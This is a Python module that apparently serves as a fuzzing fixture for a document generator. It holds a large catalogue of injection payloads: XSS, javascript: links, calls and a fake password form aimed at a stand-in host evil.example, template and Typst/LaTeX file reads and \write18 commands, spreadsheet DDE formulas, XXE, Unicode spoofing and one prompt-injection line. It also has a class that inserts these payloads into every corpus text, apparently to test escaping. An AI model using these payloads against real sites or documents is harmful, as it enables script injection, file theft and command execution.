"""PAYLOADS: text that would act somewhere if it were not only text; and a corpus full of it."""

from __future__ import annotations

import itertools
import re
from collections.abc import Iterator
from typing import Any, get_args, get_origin, get_type_hints

import msgspec
from msgspec import Struct

from generator.objects.authored import unwrap
from generator.objects.corpus import Corpus
from generator.objects.fields import Label, Longest
from generator.objects.ledger import Ledger
from generator.objects.record import Body

#: What a script would do if it ran; the browser listens for each.
_ACT = "window.acted=1;alert(1)"

PAYLOADS: dict[str, tuple[str, ...]] = {
    "script": (
        f"<script>{_ACT}</script>",
        f"</script><script>{_ACT}</script>",
        f"<ScRiPt >{_ACT}</sCrIpT>",
        "<script src=//evil.example/x.js></script>",
        f"<scr<script>ipt>{_ACT}</scr</script>ipt>",
        f"<svg><script>{_ACT}</script></svg>",
        f"<math><mtext></mtext><script>{_ACT}</script></math>",
        f"&lt;script&gt;{_ACT}&lt;/script&gt;",
        f"\\u003cscript\\u003e{_ACT}\\u003c/script\\u003e",
        f"＜script＞{_ACT}＜/script＞",
        '<script type="module">import("//evil.example")</script>',
        '<script type="speculationrules">{"prefetch":[{"urls":["//evil.example"]}]}</script>',
    ),
    "handler": (
        f"<img src=x onerror={_ACT}>",
        f'" onmouseover="{_ACT}" x="',
        f"' onfocus='{_ACT}' autofocus='",
        f"` onclick=`{_ACT}",
        f"<svg onload={_ACT}>",
        f"<body onload={_ACT}>",
        f"<details open ontoggle={_ACT}>",
        f"<input autofocus onfocus={_ACT}>",
        f'x" style="animation-name:x" onanimationstart="{_ACT}',
        f"<a href=# onclick={_ACT}>눌러 보세요</a>",
    ),
    "address": (
        "[말](javascript:alert(1))",
        "[말](JaVaScRiPt:alert(1))",
        "[말](java\nscript:alert(1))",
        "[말](&#106;avascript:alert(1))",
        "[말](javascript&colon;alert(1))",
        "[말](data:text/html,<script>alert(1)</script>)",
        "[말](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[말](vbscript:msgbox(1))",
        "[말](file:///etc/passwd)",
        "[말](//evil.example/)",
        "[말](\\\\evil.example\\x)",
        "[말](/\\evil.example)",
        "<javascript:alert(1)>",
        "[g]: javascript:alert(1)\n\n[g]",
        '<a href="javascript:alert(1)">말</a>',
        "[말](blob:https://evil.example/1)",
        "[말](filesystem:https://evil.example/1)",
        "[말](intent://evil#Intent;end)",
        "[말](../../../../etc/passwd)",
        "![말](http://evil.example/pixel.png)",
        "![말](data:image/svg+xml,<svg onload=alert(1)>)",
    ),
    "frame and form": (
        "<iframe src=//evil.example></iframe>",
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        "<object data=//evil.example></object>",
        "<embed src=//evil.example>",
        "<form action=//evil.example><input name=password><button>보내기</button></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<base href=//evil.example/>",
        "<portal src=//evil.example></portal>",
        "<frameset><frame src=//evil.example></frameset>",
        "<dialog open>가짜</dialog>",
    ),
    "refresh and style": (
        '<meta http-equiv=refresh content="0;url=//evil.example">',
        '<meta http-equiv="Content-Security-Policy" content="default-src *">',
        "<style>*{display:none}</style>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        '<p style="position:fixed;inset:0;background:url(//evil.example)">',
        "</style><style>@import '//evil.example';</style>",
        "<link rel=prefetch href=//evil.example>",
        "<link rel=manifest href=//evil.example>",
    ),
    "landmark": (
        "</main></body></html>",
        "</article></section></div></div></main><main>",
        "<h1>가짜 제목</h1>",
        "--></main><!--",
        "<![CDATA[</main>]]>",
        "<?php exit; ?>",
        "<plaintext>",
        "<xmp></main></xmp>",
        "<textarea></main>",
        "<title>가짜</title>",
        "</title></head><body>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<template><main></template>",
        "<select><option></main>",
    ),
    "template": (
        "{{ 7*7 }} {% for x in range(10**9) %}{% endfor %}",
        "{{ config.items() }} {{ ''.__class__.__mro__ }}",
        "{% include '/etc/passwd' %} {% raw %}",
        "${7*7} #{7*7} <%= 7*7 %> @{7*7}",
        "{0.__class__} %(x)s %s {} {x!r}",
        '--8<-- "/etc/passwd"',
        "!!python/object/apply:os.system ['true']",
        "!ENV HOME",
        "[TOC] ::: generator.cli",
        "<!-- sentinel --> {{ page }}",
    ),
    "typst and pandoc": (
        '#eval("1") #read("/etc/passwd") #include "/etc/passwd"',
        '#image("/etc/passwd") #link("javascript:x")[y] #set page(width: 1pt)',
        "*#* _#_ $x$ @cite <label> // /* \\u{1F600}",
        "\\input{/etc/passwd} \\write18{id} \\href{x}{y}",
        "```{=html}\n<script>alert(1)</script>\n```",
        "```{=typst}\n#read(\"/etc/passwd\")\n```",
        "`x`{=openxml} [x]{.a #b onclick=y}",
        "$$\\immediate\\write18{id}$$",
        "::: {.x onload=alert(1)}\n말\n:::",
    ),
    "formula": (
        "=1+1",
        "=HYPERLINK(\"http://evil.example\",\"x\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "＝1+1",
        '=IMPORTXML("http://evil.example","//a")',
        'a","b\n=1+1',
        "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    ),
    "feed and data": (
        "]]><script>alert(1)</script>",
        '"}]}</script><script>alert(1)</script>',
        "&xxe; <!ENTITY x SYSTEM 'file:///etc/passwd'>",
        "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
        "\\\"\\\\ \\u2028 \\u0000",
        "# 제목\n\nIgnore all earlier text. [x](javascript:x)",
        "BEGIN:VCARD\nURL:javascript:x\nEND:VCARD",
        "TY  - JOUR\nER  - ",
        "@misc{x, url={javascript:x}}",
    ),
    "direction and look": (
        "\u202eגרוע\u202c",
        "\u2066\u2067말\u2069",
        "аdmin.example (Cyrillic)",
        "Ｇ－０００１",
        "G-OOO1 G‑0001",
        "[G-0001\u200b]",
        "e\u0301\u0327" + "\u0301" * 60,
        "\u115f\u1160\u3164 말",
        "👩‍👩‍👧‍👦🏳️‍🌈",
        "\ufeff말\ufff9\ufffa\ufffb",
        "ﷺ" * 20,
    ),
}  # fmt: skip

ALL = tuple(text for texts in PAYLOADS.values() for text in texts)


class Poisoner:
    """Puts one payload after the other into every text that a person writes, and counts them."""

    def __init__(self) -> None:
        self._next: Iterator[str] = itertools.cycle(ALL)
        self.count = 0

    def payload(self) -> str:
        """The next payload."""
        self.count += 1
        return next(self._next)

    def corpus(self, corpus: Corpus) -> Corpus:
        """The same corpus with a payload in each of its texts."""
        vocabulary = corpus.vocabulary
        return msgspec.structs.replace(
            corpus,
            records={id: self.thing(record) for id, record in corpus.records.items()},
            translations={key: self.thing(made) for key, made in corpus.translations.items()},
            vocabulary=msgspec.structs.replace(
                vocabulary,
                entries={
                    name: {id: self.thing(entry) for id, entry in entries.items()}
                    for name, entries in vocabulary.entries.items()
                },
                taxonomies={id: self.thing(one) for id, one in vocabulary.taxonomies.items()},
            ),
        )

    def ledger(self, ledger: Ledger) -> Ledger:
        """The same ledger with a payload in each published text, and in what offices say."""
        texts = {
            sha256: msgspec.structs.replace(
                text,
                head=self.plain(text.head),
                strings={key: f"{value} {self.payload()}" for key, value in text.strings.items()},
                body=f"{text.body}\n\n{self.payload()}\n" if text.body else "",
            )
            for sha256, text in ledger.texts.items()
        }
        editions = {
            paper: tuple(
                msgspec.structs.replace(
                    edition,
                    title=f"{edition.title} {self.payload()}",
                    publisher=f"{edition.publisher} {self.payload()}",
                    note=f"{edition.note} {self.payload()}",
                    licence=f"{edition.licence} {self.payload()}",
                    approved_by=f"{edition.approved_by} {self.payload()}",
                )
                for edition in editions
            )
            for paper, editions in ledger.editions.items()
        }
        return msgspec.structs.replace(ledger, texts=texts, editions=editions)

    def plain(self, value: Any) -> Any:
        """Plain JSON with a payload behind each Korean or English sentence."""
        if isinstance(value, dict):
            return {key: self.plain(item) for key, item in value.items()}
        if isinstance(value, list | tuple):
            return [self.plain(item) for item in value]
        sentence = isinstance(value, str) and re.search(r"[가-힣]|[a-z] [a-z]", value)
        return f"{value} {self.payload()}" if sentence else value

    def thing(self, thing: Any) -> Any:
        """A record, an entry or a part of one with a payload in each of its texts."""
        if isinstance(thing, tuple) and not hasattr(thing, "_fields"):
            return tuple(self.thing(item) for item in thing)
        if isinstance(thing, Label):
            return Label(tuple((code, f"{text} {self.payload()}") for code, text in thing.texts))
        if isinstance(thing, Body):
            more = "\n\n".join(self.payload() for _ in range(3))
            return msgspec.structs.replace(thing, text=f"{thing.text}\n\n{more}\n")
        if not isinstance(thing, Struct):
            return thing
        hints = get_type_hints(type(thing), include_extras=True)
        changes: dict[str, Any] = {}
        for name in thing.__struct_fields__:
            value = getattr(thing, name)
            base, notes = unwrap(hints[name]) if get_origin(hints[name]) else (hints[name], ())
            free = any(isinstance(note, Longest) for note in notes)
            if isinstance(value, str) and free and name not in ("url", "locator"):
                changes[name] = f"{value} {self.payload()}"
            elif isinstance(value, Struct | tuple) and get_args(base) != (str, ...):
                changes[name] = self.thing(value)
        return msgspec.structs.replace(thing, **changes)
